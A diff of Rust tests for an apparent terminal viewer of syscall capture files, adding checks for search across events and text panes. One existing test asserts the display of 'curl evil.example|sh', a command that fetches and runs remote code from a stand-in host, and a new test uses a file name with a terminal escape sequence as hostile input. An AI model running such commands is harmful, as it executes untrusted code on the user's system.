@@ -14,7 +14,7 @@ use scap_capture_format::native::{
 use scap_capture_format::schema::{EventType, event_info, types};
 use unicode_width::UnicodeWidthStr as _;
 
-use super::model::Overlay;
+use super::model::{Overlay, TextPane};
 use super::update::update;
 use super::*;
 
@@ -365,6 +365,68 @@ fn a_command_line_is_what_was_executed_and_all_of_it_is_read_copied_and_saved() 
     assert!(lines.starts_with("-c.# nothing."), "{lines}");
     press(&mut screen, "<End>");
     assert!(inside(&mut screen).contains("curl evil.example|sh"));
+}
+
+#[test]
+fn a_search_finds_what_the_line_shows() {
+    let dir = tempfile::tempdir().unwrap();
+    let path = dir.path().join("shown.scap");
+    let mut made = MadeUp::new(&path);
+    let (fd, flags) = (3_i64.to_le_bytes(), 0x1001_u32.to_le_bytes());
+    let opened = |made: &mut MadeUp, ns, latency, name: &[u8]| {
+        let params: &[&[u8]] = &[&fd, &(-100_i64).to_le_bytes(), name, &flags];
+        made.push(types::SYSCALL_OPENAT_2_X, ns, 77, Some(latency), params);
+    };
+    opened(&mut made, 0, 1, b"/plain\0");
+    opened(&mut made, 1_234_567_000, 8_003_000_000, b"/a\x1b[2J\xff\0");
+    opened(&mut made, 2_000_000_000, 1, b"/\xc3\x89t\xc3\xa9\0");
+    made.push(
+        types::SYSCALL_CLOSE_X,
+        3_000_000_000,
+        77,
+        Some(1),
+        &[&0_i64.to_le_bytes(), &fd],
+    );
+    made.finish();
+    let mut screen = open(&path, (120, 40));
+    let mut found = |text: &str| {
+        press(&mut screen, "2<Home>");
+        let typed = text.replace('<', "<lt>");
+        press(&mut screen, &format!("/{typed}<Enter>"));
+        screen.model.events.selected_line().map(|line| line.num)
+    };
+    assert_eq!(found("\\x1b[2J\\xff"), Some(2));
+    assert_eq!(found("8.00s"), Some(2));
+    let shown = cells::time(START + 1_234_567_000);
+    assert_eq!(found(&shown), Some(2));
+    assert_eq!(found("\u{c9}T\u{e9}"), Some(3));
+    assert_eq!(found("close"), Some(4));
+    // The first event is found from the last one on only.
+    assert_eq!(found("(O_RDONLY|O_CLOEXEC)"), Some(2));
+    assert_eq!(found("<f>/\u{e9}t\u{e9}"), Some(3));
+    // In a text, also across the end of a line, and in the state at the cursor.
+    press(&mut screen, "?/next match<Enter>");
+    assert!(screenshot::text(&screen.draw()).contains("next match"));
+    press(&mut screen, "<Esc>t<Enter>/no such row<Enter>");
+    assert!(
+        screen
+            .model
+            .status
+            .as_ref()
+            .unwrap()
+            .contains("nothing contains")
+    );
+}
+
+#[test]
+fn a_search_in_a_value_finds_what_its_lines_divide() {
+    let value = format!("{}needle{}", "a".repeat(17), "b".repeat(30));
+    let mut pane = TextPane::of_value("x".to_owned(), value, 20);
+    assert_eq!(pane.find("needle", true), Some(0));
+    pane.top = 1;
+    assert_eq!(pane.find("needle", true), Some(0));
+    assert_eq!(pane.find("bb", false), Some(2));
+    assert_eq!(pane.find("zzz", true), None);
 }
 
 #[test]
